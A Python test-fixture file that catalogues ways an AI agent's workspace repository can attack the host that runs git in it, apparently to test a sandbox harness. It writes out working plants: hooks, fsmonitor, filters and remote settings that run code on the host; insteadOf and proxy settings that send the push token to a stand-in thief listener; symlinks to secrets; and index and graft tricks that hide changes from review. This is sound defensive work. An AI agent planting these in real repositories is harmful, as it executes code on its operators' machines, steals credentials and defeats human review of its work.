"""Hostile repositories: what an agent can leave in its workspace for the git of a host that works
there.

In the scripts $M is a file of the host that no command may make, $OUT a folder of the host with a
secret, $OTHER another repository of the host, $ORIGIN where the work belongs. `program FILE` writes
a program that makes $M.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from enum import StrEnum

HOST = """
git status
git add -A
git diff --cached HEAD
git commit -qm work
git -c http.extraHeader="Authorization: Basic token" push -q origin HEAD:refs/heads/bot
"""
"""What a host does that trusts the agent's repository; what it prints is what a person is shown."""


class Harm(StrEnum):
    """What a plant does to such a host."""

    RUNS = "its command ran on the host"
    LEAKS = "a secret of the host was pushed"
    TOUCHES = "another repository was written to"
    STRAYS = "the work was pushed elsewhere"
    HIDES = "the change was not shown"
    SPREADS = "the bad entry was pushed"
    LOSES = "the work could not be taken"
    HANGS = "the host's git hung"


@dataclass(frozen=True, kw_only=True)
class Plant:
    """`script` is what the agent runs and `harm` what that does to a host that runs `host`.
    `refused` is what a person is told of the work; without it the work is taken, `work` included
    (path -> mode, content).

    `sign` is what a person should be shown of it, `bad` an entry that must not be pushed.
    """

    script: str
    harm: Harm
    host: str = HOST
    refused: str = ""
    work: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    sign: str = "+change"
    bad: str = ""


def runs(script: str, *, host: str = HOST, refused: str = "") -> Plant:
    return Plant(script=script, harm=Harm.RUNS, host=host, refused=refused)


def touches(script: str) -> Plant:
    return Plant(script=script, harm=Harm.TOUCHES)


def strays(script: str) -> Plant:
    return Plant(script=script, harm=Harm.STRAYS)


def hides(
    script: str, sign: str = "+change", *, host: str = HOST, **work: tuple[str, str]
) -> Plant:
    return Plant(script=script, harm=Harm.HIDES, host=host, sign=sign, work=work)


def loses(script: str, *, refused: str = "") -> Plant:
    return Plant(script=script, harm=Harm.LOSES, refused=refused)


def spreads(script: str, bad: str, refused: str) -> Plant:
    return Plant(script=script, harm=Harm.SPREADS, bad=bad, refused=refused)


HOOKS = (
    "pre-commit prepare-commit-msg commit-msg post-commit pre-push post-index-change"
    " reference-transaction post-checkout pre-auto-gc post-rewrite push-to-checkout applypatch-msg"
    " fsmonitor-watchman"
)
NESTED = "git init -q {0}; echo a >{0}/a; git -C {0} add a; git -C {0} commit -qm nested; "
SUBMODULE = "is a submodule or a repository in the repository"
OUTSIDE = "leaves the repository"
NOT_TAKEN = "could not be taken over"
NOT_OUT = "could not be taken out of the sandbox"

COMMANDS = {
    "fsmonitor": runs('program .git/p; git config core.fsmonitor "$PWD/.git/p"'),
    "every hook": runs(
        f"mkdir -p .git/hooks; for hook in {HOOKS}; do program .git/hooks/$hook; done"
    ),
    "commit-msg hook": runs("mkdir -p .git/hooks; program .git/hooks/commit-msg"),
    "reference-transaction hook": runs(
        "mkdir -p .git/hooks; program .git/hooks/reference-transaction"
    ),
    "hooksPath": runs(
        "mkdir hk; program hk/pre-commit; program hk/post-index-change; git config"
        " core.hooksPath hk"
    ),
    "clean filter": runs(
        "program .git/p; echo '* filter=x' >.gitattributes; git config filter.x.clean '.git/p'; "
        "git config filter.x.smudge cat; git config filter.x.required true"
    ),
    "filter process by info/attributes": runs(
        "program .git/p; mkdir -p .git/info; echo '* filter=x' >.git/info/attributes; "
        "git config filter.x.process .git/p"
    ),
    "lfs": runs(
        "program .git/p; echo '*.md filter=lfs diff=lfs merge=lfs -text' >.gitattributes; printf"
        " '[lfs]\\n\\turl = http://127.0.0.1:%s/\\n' $THIEF >.lfsconfig; git config"
        " filter.lfs.clean .git/p; git config filter.lfs.smudge cat; git config filter.lfs.process"
        " .git/p"
    ),
    "diff.external": runs("program .git/p; git config diff.external .git/p"),
    "diff driver": runs(
        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.command .git/p"
    ),
    "textconv": runs(
        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.textconv .git/p"
    ),
    "include.path": runs(
        'program .git/p; printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >more; git config'
        " include.path ../more"
    ),
    "config.worktree": runs(
        "program .git/p; git config extensions.worktreeConfig true; "
        'printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >.git/config.worktree'
    ),
    "a git file that leads to a folder of the agent": runs(
        'program p; git config core.fsmonitor "$PWD/p"; mv .git meta; echo "gitdir: meta" >.git'
    ),
    "a commondir of the agent": runs(
        'cp -r .git common; program p; git config -f common/config core.fsmonitor "$PWD/p"; '
        "echo ../common >.git/commondir"
    ),
    "gpg.program": runs(
        "program .git/p; git config commit.gpgsign true; git config gpg.program .git/p"
    ),
    "editor": runs(
        "program .git/p; git config core.editor .git/p",
        host="git add -A; git commit; git push origin HEAD:refs/heads/bot",
    ),
    "pager": runs(
        "program .git/p; git config core.pager .git/p",
        host="TERM=xterm script -qec 'git log -1' /dev/null",
    ),
    "alias": runs("program .git/p; git config alias.up '!.git/p'", host="git up"),
    "merge driver": runs(
        "program .git/p; mkdir -p .git/info; echo '* merge=x' >.git/info/attributes; git config"
        " merge.x.driver .git/p",
        host="git add -A; git commit -qm work; git fetch -q origin side; git merge FETCH_HEAD",
    ),
    "ext:: remote": runs(
        'git config protocol.ext.allow always; git config remote.origin.url "ext::sh -c touch%'
        ' $M"; '
    ),
    "remote.vcs": runs(
        "git config protocol.ext.allow always; git config remote.origin.vcs ext; "
        'git config remote.origin.url "touch $M"'
    ),
    "receivepack": runs('git config remote.origin.receivepack "touch $M; git-receive-pack"'),
    "uploadpack": runs(
        'git config remote.origin.uploadpack "touch $M; git-upload-pack"',
        host="git fetch origin side",
    ),
    "alternateRefsCommand": runs(
        'program .git/p; git config core.alternateRefsCommand "$PWD/.git/p"; '
        'echo "$ORIGIN/objects" >>.git/objects/info/alternates',
        host="git fetch origin side",
    ),
    "sshCommand": runs(
        "git config core.sshCommand 'touch $M; false'; git config ssh.variant simple; "
        "git config remote.origin.url ssh://git@127.0.0.1/x"
    ),
    "gitProxy": runs(
        "program .git/p; git config core.gitProxy .git/p; git config remote.origin.url"
        " git://127.0.0.1:1/x"
    ),
    "credential.helper": runs(
        'program .git/p; git config credential.helper "$PWD/.git/p"',
        host="printf 'protocol=https\\nhost=git.example\\n\\n' | git credential fill",
    ),
    "askPass": runs(
        'program .git/p; git config core.askPass "$PWD/.git/p"; git config credential.helper ""',
        host="printf 'protocol=https\\nhost=git.example\\n\\n' | git credential fill",
    ),
    "nested repository": runs(
        NESTED.format("sub") + "program .git/p; git add sub; git commit -qm sub; echo b >>sub/a; "
        'git -C sub config core.fsmonitor "$PWD/.git/p"',
        refused=SUBMODULE,
    ),
    "submodule of a submodule": runs(
        NESTED.format("sub")
        + NESTED.format("sub/low")
        + "program .git/p; git -C sub add low; git -C sub commit -qm low; "
        'git add sub; git commit -qm sub; git -C sub/low config core.fsmonitor "$PWD/.git/p"',
        refused=SUBMODULE,
    ),
    "submodule update command": runs(
        NESTED.format("sub")
        + 'program .git/p; git add sub; printf \'[submodule "s"]\\n\\tpath = sub\\n\\turl ='
        ' ./sub\\n\' >.gitmodules; git commit -qam sub; git config submodule.s.url "$PWD/sub";'
        ' git config submodule.s.update "!$PWD/.git/p"; git -C sub commit -q --allow-empty -m'
        " next",
        host="git submodule update",
        refused=SUBMODULE,
    ),
    "bare repository in a folder": runs(
        "git init -q --bare inner; program .git/p; git -C inner config core.bare false; "
        'git -C inner config core.worktree ..; git -C inner config core.fsmonitor "$PWD/.git/p"',
        host="git -C inner status",
    ),
}

OTHERS = {
    "core.worktree": Plant(script='git config core.worktree "$OUT"', harm=Harm.LEAKS),
    "objects of another repository": Plant(
        script=(
            'echo "$OTHER/.git/objects" >>.git/objects/info/alternates; git update-index --add'
            " --cacheinfo 100644,$STOLEN,stolen; git update-index --skip-worktree stolen"
        ),
        harm=Harm.LEAKS,
    ),
    "git file of another repository": touches(
        'mv .git .git-old; echo "gitdir: $OTHER/.git" >.git; rm -rf .git-old'
    ),
    "git link to another repository": touches('rm -rf .git; ln -s "$OTHER/.git" .git'),
    "commondir of another repository": touches('echo "$OTHER/.git" >.git/commondir'),
    "refs of another repository": touches(
        'git pack-refs --all; rm -rf .git/refs; ln -s "$OTHER/.git/refs" .git/refs'
    ),
    "object folder of another repository": touches(
        'cp -r .git/objects/. "$OTHER/.git/objects/" 2>/dev/null; rm -rf .git/objects; '
        'ln -s "$OTHER/.git/objects" .git/objects'
    ),
    "insteadOf": strays(
        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.insteadOf" "$ORIGIN"'
    ),
    "pushInsteadOf": strays(
        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.pushInsteadOf" "$ORIGIN"'
    ),
    "pushurl": strays(
        'git init -q --bare .git/evil; git config remote.origin.pushurl "$PWD/.git/evil"'
    ),
    "insteadOf that takes the token": strays(
        'git config "url.http://127.0.0.1:$THIEF/.insteadOf" "$ORIGIN"'
    ),
    "a proxy that takes the token": strays(
        'git config http.proxy "http://127.0.0.1:$THIEF"; git config remote.origin.url'
        " http://git.example/shop"
    ),
}

HIDDEN = {
    "assume-unchanged": hides("git update-index --assume-unchanged README.md"),
    "skip-worktree": hides("git update-index --skip-worktree README.md"),
    "info/exclude": hides("mkdir -p .git/info; echo '*' >.git/info/exclude", "+new"),
    "excludesFile": hides("echo '*' >.git/none; git config core.excludesFile .git/none", "+new"),
    "sparse checkout": hides(
        "git config core.sparseCheckout true; git config sparse.expectFilesOutsideOfPatterns true;"
        " mkdir -p .git/info; echo /none >.git/info/sparse-checkout; git update-index"
        " --skip-worktree README.md"
    ),
    "an index that lies about times and sizes": hides(
        "git checkout -q README.md; git config core.trustctime false; git config core.checkStat"
        " minimal; touch -d 2020-01-01 README.md; git update-index --refresh; echo hallo"
        " >README.md; touch -d 2020-01-01 README.md",
        "+hallo",
        **{"README.md": ("100644", "hallo\n")},
    ),
    "fileMode": hides(
        "git checkout -q README.md; git config core.fileMode false; chmod +x README.md",
        "new mode",
        **{"README.md": ("100755", "hello\n")},
    ),
    "attributes that hide a diff": hides("echo '* -diff' >.gitattributes"),
    "replaced objects": hides("git add -A; git replace HEAD^{tree} $(git write-tree)"),
    "grafts": hides(
        "git add -A; git commit -qm mine; mkdir -p .git/info; "
        "echo $(git rev-parse HEAD) $(git commit-tree HEAD^{tree} -m same) >.git/info/grafts",
        host="git diff HEAD^ HEAD; git push -q origin HEAD:refs/heads/bot",
    ),
    "packed refs that lie about the base": hides(
        "git add -A; git commit -qm mine; rm -rf .git/refs/remotes; "
        'echo "$(git rev-parse HEAD) refs/remotes/origin/main" >.git/packed-refs',
        host="git diff origin/main HEAD; git push -q origin HEAD:refs/heads/bot",
    ),
}

BROKEN = {
    "no git folder": loses("rm -rf .git"),
    "a corrupt git folder": loses(
        "printf '\\0\\0' >.git/HEAD; rm -rf .git/refs; echo 'garbage = [' >.git/config"
    ),
    "a git folder of the future": loses("git config core.repositoryFormatVersion 99"),
    "an index that is rubbish": loses("echo rubbish >.git/index"),
    "an index that is locked": loses("touch .git/index.lock"),
    "packed refs that are rubbish": loses(
        "echo 'zzzz refs/heads/work' >.git/packed-refs; rm -rf .git/refs/*"
    ),
    "an encoding that the files do not have": loses(
        "echo '* working-tree-encoding=UTF-16' >.gitattributes", refused=NOT_OUT
    ),
    ".GIT": loses("mkdir -p .GIT/hooks; program .GIT/hooks/pre-commit", refused=NOT_OUT),
    ".gitmodules that is a link": loses("ln -s README.md .gitmodules", refused=NOT_OUT),
    "git~1": loses("mkdir 'git~1'; echo x >'git~1/config'", refused=NOT_OUT),
    "a HEAD that is a pipe": Plant(script="rm .git/HEAD; mkfifo .git/HEAD", harm=Harm.HANGS),
}

ENTRIES = {
    "a link to a secret": spreads('ln -s "$OUT/secret" leak', "leak", OUTSIDE),
    "a link to a folder outside": spreads('ln -s "$OUT" src/leak', "src/leak", OUTSIDE),
    "a relative link out": spreads("ln -s ../../../../../etc src/leak", "src/leak", OUTSIDE),
    "a folder that became a link": spreads('rm -rf src; ln -s "$OUT" src', "src", OUTSIDE),
    "a link that leaves by way of another": spreads(
        "mkdir -p d; ln -s .. d/up; ln -s d/up/../secret leak", "leak", OUTSIDE
    ),
    "a name that HFS takes for .git": spreads(
        "mkdir $'.g\\u200cit'; program $'.g\\u200cit/config'", "\u200c", NOT_TAKEN
    ),
    ".gitmodules with a command": spreads(
        'printf \'[submodule "s"]\\n\\tpath = s\\n\\turl = ext::sh -c true\\n\\tupdate = !touch'
        " x\\n' >.gitmodules",
        ".gitmodules",
        NOT_TAKEN,
    ),
    "a link into the git folder": spreads("ln -s ../.git/config src/config", "src/config", OUTSIDE),
    "a link where workflows would be": spreads(
        "mkdir .github; ln -s ../src .github/workflows", ".github/workflows", "is protected"
    ),
    "a workflow": spreads(
        "mkdir -p .github/workflows; echo 'on: push' >.github/workflows/x.yml",
        ".github/workflows/x.yml",
        "is protected",
    ),
    "a name that breaks the line": spreads(
        "touch $'a\\nb'", "a\nb", "contains a control character"
    ),
    "a name that clears the screen": spreads(
        "touch $'a\\e[2Jb'", "a\x1b[2Jb", "contains a control character"
    ),
    "a name that is read backwards": spreads(
        "touch $'a\\u202etxt.sh'", "\u202e", "contains a control character"
    ),
    "too many files": spreads(
        "mkdir many; cd many; touch {1..3001}", "many/1", "files were changed"
    ),
    "a file that is too large": spreads("truncate -s 21M large", "large", "is larger than 20 MiB"),
}

PLANTS: Mapping[str, Plant] = {**COMMANDS, **OTHERS, **HIDDEN, **BROKEN, **ENTRIES}

WORK: Mapping[str, tuple[str, Mapping[str, tuple[str, str]]]] = {
    "commits on another branch": (
        "git add -A; git commit -qm mine; git checkout -q --orphan other; git rm -rqf src",
        {},
    ),
    "a changed file that is ignored": (
        "echo '*.md' >.gitignore",
        {".gitignore": ("100644", "*.md\n")},
    ),
}
